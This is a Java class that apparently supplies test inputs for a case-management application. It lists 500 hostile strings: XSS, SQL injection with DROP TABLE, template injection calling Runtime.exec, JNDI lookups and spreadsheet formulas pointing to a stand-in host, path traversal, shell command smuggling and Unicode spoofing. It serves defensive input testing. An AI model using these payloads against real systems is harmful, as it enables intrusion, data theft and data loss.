package jp.kasane.trust;

import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.function.UnaryOperator;

/** 500 texts that somebody might type in order to do harm, or by accident. Each is a different one. */
final class HostileTexts {

    private static final int COUNT = 500;

    /** What an expression would come to, were it ever evaluated: 31337 × 7. */
    static final String EVALUATED = "219359";

    private static final List<String> SCRIPTS = List.of(
            "<script>alert(1)</script>",
            "<ScRiPt src=//x.example/a.js></sCrIpT>",
            "\"><img src=x onerror=alert(1)>",
            "'><svg onload=alert(1)>",
            "</textarea><script>alert(1)</script>",
            "</title><script>alert(1)</script>",
            "--><script>alert(1)</script><!--",
            "]]><script>alert(1)</script>",
            "<iframe srcdoc='<script>alert(1)</script>'>",
            "<a href=javascript:alert(1)>x</a>",
            "javascript:alert(1)",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "<input autofocus onfocus=alert(1)>",
            "<details open ontoggle=alert(1)>",
            "<style>@import'//x.example/a.css'</style>",
            "<base href=//x.example/>",
            "<meta http-equiv=refresh content=0;url=//x.example>",
            "<form action=//x.example><button>x",
            "<math><mtext></mtext><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "\" autofocus onfocus=\"alert(1)",
            "' onmouseover='alert(1)",
            "`-alert(1)-`",
            "\\\";alert(1);//",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;script&#62;alert(1)",
            "%3Cscript%3Ealert(1)%3C/script%3E",
            "\\u003cscript\\u003ealert(1)",
            "{{constructor.constructor('alert(1)')()}}",
            "<template><script>alert(1)</script></template>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<object data=javascript:alert(1)>",
            "<svg><animate onbegin=alert(1) attributeName=x>",
            "<x contenteditable onblur=alert(1)>",
            "hx-on:click=alert(1)",
            "<div hx-get=/admin hx-trigger=load>",
            "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
            "＜script＞alert(1)＜/script＞");

    private static final List<String> SQL = List.of(
            "'; DROP TABLE kasane.casework_case; --",
            "' OR '1'='1",
            "' OR 1=1 --",
            "\" OR \"\"=\"",
            "1); DELETE FROM casework_case; --",
            "') UNION SELECT NULL, version() --",
            "'||(SELECT pg_sleep(5))||'",
            "$$; SELECT 1; $$",
            "\\'; SELECT 1; --",
            "%' AND 1=0 UNION ALL SELECT 1 --",
            "'; COPY (SELECT 1) TO PROGRAM 'id'; --",
            "' AND current_setting('kasane.tenant') = 'himi",
            "'; SET kasane.tenant = 'tomiya'; --",
            "E'\\x27'",
            "100%",
            "%_%",
            "a\\%b\\_c",
            "/* */ ; --",
            "Robert'); DROP TABLE students;--",
            "？'; --");

    private static final List<String> EXPRESSIONS = List.of(
            "${31337*7}",
            "#{31337*7}",
            "*{31337*7}",
            "~{31337*7}",
            "@{31337*7}",
            "[[${31337*7}]]",
            "[(${31337*7})]",
            "__${31337*7}__::.x",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "#{T(java.lang.Runtime).getRuntime().exec('id')}",
            "T(java.lang.Math).multiplyExact(31337,7)",
            "${\"\".getClass().forName('java.lang.Runtime')}",
            "${execution.setVariable('x',31337*7)}",
            "${processEngine.getRepositoryService()}",
            "${jndi:ldap://x.example/a}",
            "${${lower:j}ndi:ldap://x.example/a}",
            "${env:PATH}",
            "${sys:user.home}",
            "{{31337*7}}",
            "<%= 31337*7 %>",
            "{0}",
            "{0,number,#}",
            "{",
            "'{'0'}'",
            "%s%s%n%x",
            "%1$s",
            "= 31337*7",
            "for i in 1..9 return i",
            "if true then 31337*7 else 0",
            "${@environment.getProperty('spring.datasource.password')}",
            "<#assign x=31337*7>${x}",
            "#set($x=31337*7)$x",
            "{web.title.conflict}",
            "#{web.title.conflict}");

    private static final List<String> FORMULAS = List.of(
            "=31337*7",
            "+31337*7",
            "-31337*7",
            "@SUM(31337*7)",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://x.example/\"&A1,\"x\")",
            "=IMPORTXML(\"http://x.example\",\"//a\")",
            "\t=31337*7",
            "\n=31337*7",
            "＝31337*7",
            "＋1",
            "－1",
            "\"=1+1\"",
            "a\",=1+1,\"b",
            "a,b;c\td",
            "=1+1\";x",
            "%0A=1+1",
            ";=1+1");

    private static final List<String> PATHS = List.of(
            "../../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "....//....//etc/passwd",
            "%2e%2e%2fetc%2fpasswd",
            "/etc/passwd",
            "C:\\Windows\\win.ini",
            "\\\\x.example\\share",
            "file:///etc/passwd",
            "http://169.254.169.254/latest/meta-data/",
            "//x.example/a",
            "con",
            "nul.txt",
            "a/b",
            "a\\b",
            ".",
            "..",
            "name.pdf.exe",
            "~root",
            "$HOME",
            "`id`",
            "$(id)",
            "| id",
            "; id",
            "&& id",
            "classpath:application.yml");

    private static final List<String> HEADERS = List.of(
            "a\r\nSet-Cookie: x=1",
            "a\nBcc: all@x.example",
            "a\r\n\r\n<script>alert(1)</script>",
            "a%0d%0aSet-Cookie: x=1",
            "a\rb",
            "a\nb",
            "a\u0085b",
            "a\u2028b",
            "a\u2029b",
            "a\u000bb",
            "a\u000cb",
            "=?utf-8?B?PHNjcmlwdD4=?=",
            "\"x\" <a@x.example>, b@x.example",
            "a;filename=evil.exe",
            "a\"; filename*=UTF-8''evil.exe",
            "Content-Type: text/html",
            "X: y\r\n X2: y");

    private static final List<String> UNICODE = List.of(
            "abc\u202egnp.exe",
            "\u202eあいう",
            "\u2066\u2067\u2068x\u2069",
            "\u200eleft\u200fright",
            "見\u200bえ\u200bな\u200bい",
            "\ufeff先頭",
            "a\u00adb",
            "а\u0435\u0440admin",
            "ａｄｍｉｎ",
            "ﾊﾝｶｸ",
            "が と か\u3099",
            "é e\u0301",
            "葛\udb40\udd00 葛",
            "辻\udb40\udd01",
            "𠮷野家 吉野家",
            "髙橋 高橋 﨑",
            "👨\u200d👩\u200d👧\u200d👦",
            "🇯🇵",
            "👍🏽",
            "\ufdfa",
            "Z\u0351\u036b\u0343a\u030el\u0301g\u0311o\u0352",
            "\u0000先頭",
            "途中\u0000",
            "\ud800",
            "\udc00x",
            "x\ud83d",
            "\ufffe",
            "\uffff",
            "\ufffd",
            "\ue000",
            "\u0001\u0002\u0003",
            "\u001b[31m赤",
            "\u007f",
            "\u3000全角の空白\u3000",
            "\u00a0",
            "\u2003x",
            "①②③㈱㍻",
            "ヴぁゔ",
            "ｱﾞ",
            "゛゜",
            "〜～−－—―",
            "\\¥₩",
            "ß ẞ İ ı",
            "ﬃ",
            "𝒶𝓁𝑒𝓇𝓉(1)",
            "＇ OR 1=1",
            "‮exe.pdf");

    private static final List<String> PLAIN = List.of(
            "null",
            "undefined",
            "NaN",
            "true",
            "-0",
            "1e309",
            "0x41",
            "{}",
            "[]",
            "{\"a\":1}",
            "\"",
            "'",
            "\\",
            "<",
            ">",
            "&",
            "&amp;",
            "&nbsp;",
            "#",
            "?",
            "%",
            "--",
            "//",
            "/*",
            "on",
            "off",
            "D07",
            "ADMIN",
            "あ".repeat(150),
            "あ".repeat(5_000),
            "a".repeat(20_000),
            "𠮷".repeat(1_000),
            "\u3042\u3099".repeat(500));

    private static final List<UnaryOperator<String>> SHAPES = List.of(
            text -> text, text -> "母 " + text, text -> text + " 様", text -> "（" + text + "）", text -> text + text);

    private static final List<List<String>> KINDS =
            List.of(SCRIPTS, SQL, EXPRESSIONS, FORMULAS, PATHS, HEADERS, UNICODE, PLAIN);

    private static final Map<String, Integer> ALL = shaped();

    private HostileTexts() {}

    /** In the same order at each call. */
    static List<String> all() {
        return List.copyOf(ALL.keySet());
    }

    /** What the text tries: a number for each of scripts, SQL, expressions, formulas, paths, headers, Unicode, oddities. */
    static int kindOf(String text) {
        return Objects.requireNonNull(ALL.get(text));
    }

    static int kinds() {
        return KINDS.size();
    }

    private static Map<String, Integer> shaped() {
        Map<String, Integer> texts = new LinkedHashMap<>();
        for (UnaryOperator<String> shape : SHAPES) {
            for (List<String> kind : KINDS) {
                for (String text : kind) {
                    if (texts.size() < COUNT) {
                        texts.putIfAbsent(shape.apply(text), KINDS.indexOf(kind));
                    }
                }
            }
        }
        return texts;
    }
}
